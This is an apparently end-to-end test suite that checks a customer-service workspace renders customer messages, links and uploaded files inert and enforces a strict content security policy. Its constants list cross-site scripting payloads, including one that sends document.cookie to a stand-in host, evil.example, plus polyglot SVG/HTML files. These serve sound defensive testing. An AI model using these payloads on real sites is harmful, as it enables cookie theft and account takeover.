"""What customers write never runs in the workspace: words, names, links, files.

A dialog, a request to a strange address, a changed page or a violation of the content policy is a
failure; so is a page without the policy.
"""

import json
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Page, expect

from tests.e2e.colleague import SOON_MS, Colleague
from tests.e2e.office import Office
from tests.e2e.visitor import Visitor
from tests.services.media.samples import image

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.serial,
    pytest.mark.timeout(120),
    pytest.mark.asyncio(loop_scope="session"),
]

STRANGE = "evil.example"
MARK = "document.title='run';alert(1);fetch('http://evil.example/'+document.cookie)"
SCRIPT = f"<script>{MARK}</script>"
BROKEN_IMAGE = f'<img src=x onerror="{MARK}">'
TEXTS = (
    SCRIPT,
    BROKEN_IMAGE,
    f'"><svg onload="{MARK}">',
    f"javascript:{MARK}",
    "{{constructor.constructor('alert(1)')()}}",
    f"http://evil.example/'onmouseover='{MARK}",
    f'<iframe srcdoc="{SCRIPT.replace(chr(34), "")}"></iframe>',
)
ADDRESSES = (
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"data:text/html,{SCRIPT}",
    "vbscript:msgbox(1)",
    f'https://{STRANGE}/"onclick="alert(1)',
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}">{SCRIPT}</svg>'.encode()
HTML = f"<!doctype html><html><body>{BROKEN_IMAGE}{SCRIPT}</body></html>".encode()
WATCH = """
window.broken = []
addEventListener('securitypolicyviolation', (event) => {
  window.broken.push(event.effectiveDirective + ' ' + event.blockedURI)
})
"""


class Guarded:
    """A page and everything on it that looks like somebody else's program."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.signs: list[str] = []
        page.on("request", lambda request: self._request(request.url))
        page.on("popup", lambda other: self.signs.append(f"popup {other.url}"))

    async def watch(self) -> None:
        self.page.on("dialog", self._dialog)
        await self.page.add_init_script(WATCH)
        await self.page.reload()

    async def _dialog(self, dialog: Any) -> None:
        self.signs.append(f"dialog {dialog.message}")
        await dialog.dismiss()

    def _request(self, url: str) -> None:
        if STRANGE in url:
            self.signs.append(f"request {url}")

    async def untouched(self) -> None:
        broken: list[str] = await self.page.evaluate("window.broken")
        assert self.signs + broken == []
        assert await self.page.title() != "run"
        smuggled = "[...document.querySelectorAll('*')].filter((each) => [...each.attributes]"
        smuggled += ".some(({ name }) => name.startsWith('on'))).length"
        assert await self.page.evaluate(smuggled) == 0
        assert await self.page.locator("iframe, object, embed").count() == 0


@pytest_asyncio.fixture(loop_scope="session")
async def scene(office: Office) -> AsyncIterator[tuple[Visitor, Colleague, Guarded]]:
    customer = await office.waiting_customer()
    agent = await office.ready("agent1")
    await agent.accept()
    guarded = Guarded(agent.page)
    await guarded.watch()
    await agent.at_work()
    await agent.serving()
    yield customer, agent, guarded
    await guarded.untouched()


Scene = tuple[Visitor, Colleague, Guarded]


async def push(office: Office, customer: Visitor, **message: Any) -> None:
    url = f"{office.demo.simulator}/phone/{await customer.phone()}/messages"
    headers = {"Content-Type": "application/json"}
    async with office.http.post(url, data=json.dumps(message), headers=headers) as answer:
        assert answer.status == 202, await answer.text()


async def give(
    office: Office, customer: Visitor, kind: str, name: str, content: bytes, **more: str
) -> None:
    phone = await customer.phone()
    url = f"{office.demo.simulator}/phone/{phone}/media"
    async with office.http.post(url, params={"type": kind, "name": name}, data=content) as answer:
        media_id = (await answer.json())["media_id"]
    await push(office, customer, type=kind, media_id=media_id, **more)


async def test_the_policy_is_set_and_a_script_in_the_page_breaks_it(office: Office) -> None:
    agent = office.colleague("agent1")
    page = await agent.open()
    response = await page.reload()
    assert response is not None
    policy = (await response.header_value("content-security-policy") or "").split("; ")
    assert "default-src 'self'" in policy
    assert "script-src 'self'" in policy
    assert "object-src 'none'" in policy
    assert not [each for each in policy if "unsafe" in each]
    broken = await page.evaluate(
        """() => new Promise((resolve) => {
          addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective))
          const planted = document.createElement('script')
          planted.textContent = 'window.ran = true'
          document.body.append(planted)
        })"""
    )
    assert broken == "script-src-elem"
    assert await page.evaluate("window.ran") is None
    agent.complaints[:] = [each for each in agent.complaints if "Security Policy" not in each]


async def test_script_in_words_stays_words(office: Office, scene: Scene) -> None:
    customer, agent, guarded = scene
    for text in TEXTS:
        await push(office, customer, type="text", text=text)
    bubbles = agent.says("customer")
    await expect(bubbles).to_have_count(len(TEXTS) + 1, timeout=SOON_MS)
    assert [each.strip() for each in await bubbles.all_inner_texts()][1:] == list(TEXTS)
    for link in await agent.log.locator("a").all():
        assert (await link.get_attribute("href") or "").startswith("http")
    await guarded.untouched()


async def test_script_in_titles_labels_and_addresses_is_no_link(
    office: Office, scene: Scene
) -> None:
    customer, agent, _ = scene
    for url in ADDRESSES:
        await push(office, customer, type="link", title=SCRIPT, description=BROKEN_IMAGE, url=url)
    await push(
        office, customer, type="location", latitude=31.2, longitude=121.5, label=BROKEN_IMAGE
    )
    program = {"Title": SCRIPT, "AppId": f"javascript:{MARK}", "PagePath": BROKEN_IMAGE}
    await push(office, customer, type="miniprogrampage", fields=program)
    await push(office, customer, type=BROKEN_IMAGE[:40], fields={"Content": SCRIPT})

    links = agent.says("customer").get_by_test_id("link")
    await expect(links).to_have_count(len(ADDRESSES), timeout=SOON_MS)
    await expect(agent.says("customer").get_by_test_id("place")).to_contain_text(BROKEN_IMAGE)
    await expect(agent.says("customer").get_by_test_id("program")).to_contain_text(SCRIPT)
    await expect(agent.says("customer").get_by_test_id("unsupported")).to_be_visible()
    open_ones = links.get_by_role("link")
    await expect(open_ones).to_have_count(1)
    address = await open_ones.get_attribute("href") or ""
    assert address.startswith(f"https://{STRANGE}/%22onclick=%22alert(1)")
    assert await open_ones.get_attribute("rel") == "noopener noreferrer nofollow"


@pytest.mark.parametrize(
    ("kind", "name", "content"),
    [
        ("image", "photo.svg", SVG),
        ("image", "photo.png", SVG),
        ("file", "bill.html", HTML),
        ("file", "bill.txt", HTML),
        ("file", "bill.svg", SVG),
        ("image", "photo.gif", b"GIF89a/*" + HTML),
    ],
    ids=["svg", "svg as png", "html", "html as txt", "svg as file", "html as gif"],
)
async def test_active_files_are_refused_and_named_in_words(
    office: Office, scene: Scene, kind: str, name: str, content: bytes
) -> None:
    customer, agent, _ = scene
    await give(office, customer, kind, name, content, title=name if kind == "file" else "")
    media = agent.says("customer").get_by_test_id("media")
    await expect(media).to_have_attribute("data-state", "refused", timeout=2 * SOON_MS)
    await expect(media).to_contain_text("没有收下")
    assert await media.locator("a, img, audio, video").count() == 0


async def test_script_in_the_name_of_a_file_stays_a_name(office: Office, scene: Scene) -> None:
    customer, agent, guarded = scene
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    await give(office, customer, "file", "bill.pdf", pdf, title="<img src=x onerror=alert(1)>.pdf")
    media = agent.says("customer").get_by_test_id("media")
    await expect(media).to_have_attribute("data-state", "stored", timeout=2 * SOON_MS)
    await expect(media).to_contain_text("img src=x onerror=alert(1).pdf")
    await guarded.untouched()


async def test_a_file_opened_by_its_own_address_runs_nothing(office: Office, scene: Scene) -> None:
    customer, agent, _ = scene
    await give(office, customer, "image", "a.png", image("PNG", width=40, height=30))
    media = agent.says("customer").get_by_test_id("media")
    await expect(media).to_have_attribute("data-state", "stored", timeout=2 * SOON_MS)
    preview = await media.locator("img").get_attribute("src") or ""
    answer = await agent.page.request.get(
        office.demo.url + preview.removesuffix("/preview"), headers={"Origin": office.demo.url}
    )
    assert answer.status == 200
    assert answer.headers["content-type"] == "image/png"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in answer.headers["content-security-policy"]
    assert "default-src 'none'" in answer.headers["content-security-policy"]
